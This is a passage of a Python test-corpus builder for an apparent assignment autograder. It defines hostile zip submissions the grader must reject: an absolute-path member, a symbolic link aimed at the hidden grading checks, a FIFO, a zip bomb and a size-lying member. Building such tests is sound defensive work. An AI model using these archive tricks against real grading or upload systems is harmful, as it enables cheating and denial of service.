        Case("71000003a", "absolute path", with_files(**{f"/tmp/evil_{m}/Raysampling_py": ref("Raysampling.py")}), status="bad_zip",
             marks=bad, reason="unsafe path"),
        Case("71000004a", "a symbolic link to the hidden checks",
             raw=_with_info(_info("check_volume_rendering.py", stat.S_IFLNK | 0o777),
                            str(ctx.root / "solutions" / "comp4423_a2" / "hidden" / "check_volume_rendering.py").encode()),
             status="bad_zip", marks=bad, reason="symbolic link"),
        Case("71000005a", "a FIFO (special file) entry", raw=_with_info(_info("pipe", stat.S_IFIFO | 0o644), b""), status="bad_zip",
             marks=bad, reason="special file"),
        Case("71000006a", "a hard link, zipped by the zip tool (stored as a plain copy)", raw=_hard_link_zip()),
        Case("71000007a", "zip bomb: 60 MB of zeros in 60 kB", raw=make_zip({**{n: ref(n) for n in MODULES}, "data.bin": b"\0" * (60 << 20)}),
             status="bad_zip", marks=bad, reason="zip bomb"),
        Case("71000008a", "a member that lies about its size",
             raw=_patch(make_zip({**{n: ref(n) for n in MODULES}, "notes.txt": b"\0" * (30 << 20)}),
                        (30 << 20).to_bytes(4, "little"), (1000).to_bytes(4, "little")),
             status="bad_zip", marks=bad, reason="cannot read"),
        Case("71000009a", "600 members", raw=make_zip({**{n: ref(n) for n in MODULES}, **{f"junk/{i}.txt": "x" for i in range(600)}}),
             status="bad_zip", marks=bad, reason="at most"),
        Case("71000010a", "a truncated zip", raw=reference[: len(reference) // 2], status="bad_zip", marks=bad, reason="not a readable zip"),
        Case("71000011a", "random bytes named .zip", raw=bytes(range(256)) * 64, status="bad_zip", marks=bad, reason="not a readable zip"),
        Case("71000012a", "a zero-byte file", raw=b"", status="bad_zip", marks=bad, reason="not a readable zip"),
        Case("71000013a", "an empty zip", raw=make_zip({}), status="missing_files", marks=bad, reason="no Python file"),
        Case("71000014a", "non-UTF-8 (cp437) member names next to the modules",
             raw=_patch(make_zip({**{n: ref(n) for n in MODULES if n != "dcnn.py"}, "R_sum_.txt": "cv"}), b"R_sum_.txt", b"R\x82sum\x82.txt"),
             marks={**FULL, "2.1": 0.0}),
        Case("71000015a", "member names flagged UTF-8 that are not UTF-8",
             raw=_patch(make_zip({**{n: ref(n) for n in MODULES}, "\u00e9vil.py": "x = 1\n"}), "\u00e9vil.py".encode(), b"\xff\xfevil.py"),
             status="bad_zip", marks=bad, reason="not a readable zip"),
        Case("71000016a", "a zip of another assignment", {"hw1_knn.py": "def knn():\n    pass\n", "hw1_svm.py": "def svm():\n    pass\n",
                                                           "README.md": "Assignment 1"},
             status="missing_files", marks=bad, reason="no Python file"),
        Case("71000017a", "the reference under another assignment's name", raw=reference,
             zip_name="Assignment1_71000017a_EVIL_Student.zip", status="naming_error", marks=bad, reason="does not follow the rule"),
    ]
    return cases


# Cases that keep all three modules. The others, whose attack is not in dcnn.py and is not a
# process-level attack, leave dcnn.py out (2.1 then scores 0 with the note "no file found"): torch
# makes dcnn's checks the slowest by far, and the corpus has to run in a few minutes on two cores.
WHOLE = {"70000000a", "70000006a", "70000009a", "70000014a", "70000015a", "70000016a", "70000021a", "70000029a",
         "70000031a", "70000035a", "71000006a"}


def _lighten(case: Case) -> Case:
    if case.sid in WHOLE or case.raw is not None or not case.files or "dcnn.py" not in case.files:
        return case
    if case.files["dcnn.py"] != ref("dcnn.py"):  # the attack is in dcnn.py: keep it
        return case
    case.files = {k: v for k, v in case.files.items() if k != "dcnn.py"}
    if case.status == "ok" or case.marks.get("2.1") == FULL["2.1"]:
        case.marks = {**case.marks, "2.1": 0.0}
    return case


def build(ctx: Context) -> list[Case]:
    cases = [Case("70000000a", "the clean reference (control)", with_files())]
    cases += code_cases(ctx) + zip_cases(ctx)
    cases += __import__("adversarial.cases_checks", fromlist=["cases"]).cases(ctx)
    cases += __import__("adversarial.cases_staff", fromlist=["cases"]).cases(ctx)
    cases += __import__("adversarial.cases_isolation", fromlist=["cases"]).cases(ctx)
    cases = [_lighten(c) for c in cases]
    sids = [c.sid for c in cases]
    assert len(set(sids)) == len(sids), "duplicate student ids in the corpus"
    return cases
